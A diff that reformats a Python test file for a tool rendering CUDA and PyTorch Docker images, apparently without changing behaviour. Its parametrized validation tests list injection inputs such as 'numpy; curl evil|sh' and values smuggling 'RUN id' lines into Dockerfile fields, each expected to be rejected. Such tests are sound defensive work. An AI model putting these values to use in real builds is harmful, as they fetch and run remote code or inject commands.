@@ -43,7 +43,8 @@ FAMILIES: dict[str, tuple[Request, ImageOptions]] = {
     ),
     "cu128-devel-h100-ubuntu24.04": (Request(cuda="12.8", gpu="H100", os="ubuntu24.04"), ImageOptions(flavor="devel")),
     "cu130-runtime-slim-ubuntu22.04": (
-        Request(cuda="13.0", os="ubuntu22.04"), ImageOptions(slim=True, with_packages=()),
+        Request(cuda="13.0", os="ubuntu22.04"),
+        ImageOptions(slim=True, with_packages=()),
     ),
 }
 
@@ -115,8 +116,10 @@ def test_torch_and_companions_are_pinned_from_the_stack_index() -> None:
     pins = "torch==2.4.1\ntorchvision==0.19.1\ntorchaudio==2.4.1\n"
     assert rendered.files["requirements.txt"] == f"{pins}{stack.numpy}\n"
     assert rendered.files["constraints.txt"] == rendered.files["requirements.txt"]
-    assert "--index-url https://download.pytorch.org/whl/cu121 -r /tmp/gpuenv/requirements.txt" in \
-        rendered.files["Dockerfile"]
+    assert (
+        "--index-url https://download.pytorch.org/whl/cu121 -r /tmp/gpuenv/requirements.txt"
+        in rendered.files["Dockerfile"]
+    )
     alone = render_image(stack, ImageOptions(with_packages=()))
     assert alone.files["requirements.txt"] == f"torch==2.4.1\n{stack.numpy}\n"
 
@@ -203,28 +206,34 @@ def test_rendering_is_deterministic() -> None:
     assert render_image(stack, ImageOptions(pip=("einops",))).files == first.files
 
 
-@pytest.mark.parametrize("field,value", [
-    ("numpy", "numpy; curl evil|sh"),
-    ("index_url", "https://x.example.com/whl\nRUN id"),
-    ("arch_list", "9.0\nRUN id"),
-    ("torch", "2.0.1 && id"),
-    ("os", "ubuntu22.04\nRUN id"),
-    ("base_images", {"runtime": "evil image"}),
-])
+@pytest.mark.parametrize(
+    "field,value",
+    [
+        ("numpy", "numpy; curl evil|sh"),
+        ("index_url", "https://x.example.com/whl\nRUN id"),
+        ("arch_list", "9.0\nRUN id"),
+        ("torch", "2.0.1 && id"),
+        ("os", "ubuntu22.04\nRUN id"),
+        ("base_images", {"runtime": "evil image"}),
+    ],
+)
 def test_every_stack_value_is_validated_before_the_template(field: str, value: object) -> None:
     stack = replace(_stack(cuda="12.4"), **{field: value})
     with pytest.raises(BadRequest):
         render_image(stack, ImageOptions())
 
 
-@pytest.mark.parametrize("options", [
-    ImageOptions(pip=("x; curl evil|sh",)),
-    ImageOptions(base_image="a b"),
-    ImageOptions(base_image="x\nRUN id"),
-    ImageOptions(index_url="ftp://x"),
-    ImageOptions(with_packages=("torchtext",)),
-    ImageOptions(flavor="debug"),
-])
+@pytest.mark.parametrize(
+    "options",
+    [
+        ImageOptions(pip=("x; curl evil|sh",)),
+        ImageOptions(base_image="a b"),
+        ImageOptions(base_image="x\nRUN id"),
+        ImageOptions(index_url="ftp://x"),
+        ImageOptions(with_packages=("torchtext",)),
+        ImageOptions(flavor="debug"),
+    ],
+)
 def test_every_option_is_validated_before_the_template(options: ImageOptions) -> None:
     with pytest.raises(BadRequest):
         render_image(_stack(cuda="12.4"), options)
